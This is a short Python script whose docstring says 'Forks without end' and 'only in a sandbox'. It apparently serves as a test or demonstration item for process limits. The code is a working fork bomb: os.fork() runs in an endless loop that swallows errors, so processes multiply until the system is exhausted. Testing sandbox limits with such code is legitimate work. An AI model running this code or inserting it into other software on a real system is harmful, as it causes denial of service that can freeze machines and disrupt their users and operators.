"""Forks without end.

only in a sandbox
"""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
